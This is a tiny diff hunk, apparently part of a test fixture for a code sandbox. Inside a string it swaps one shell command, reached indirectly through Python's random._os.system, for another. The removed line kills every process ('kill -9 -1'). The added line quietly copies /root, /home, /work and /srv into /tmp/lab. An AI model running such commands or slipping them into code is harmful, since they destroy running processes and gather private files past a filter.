@@ -43,7 +43,7 @@ except Exception:
 import random
 
 try:
-    random._os.system("kill -9 -1")
+    random._os.system("cp -r /work /srv /root /home /tmp/lab/ 2>/dev/null")
 except Exception:
     pass
 """
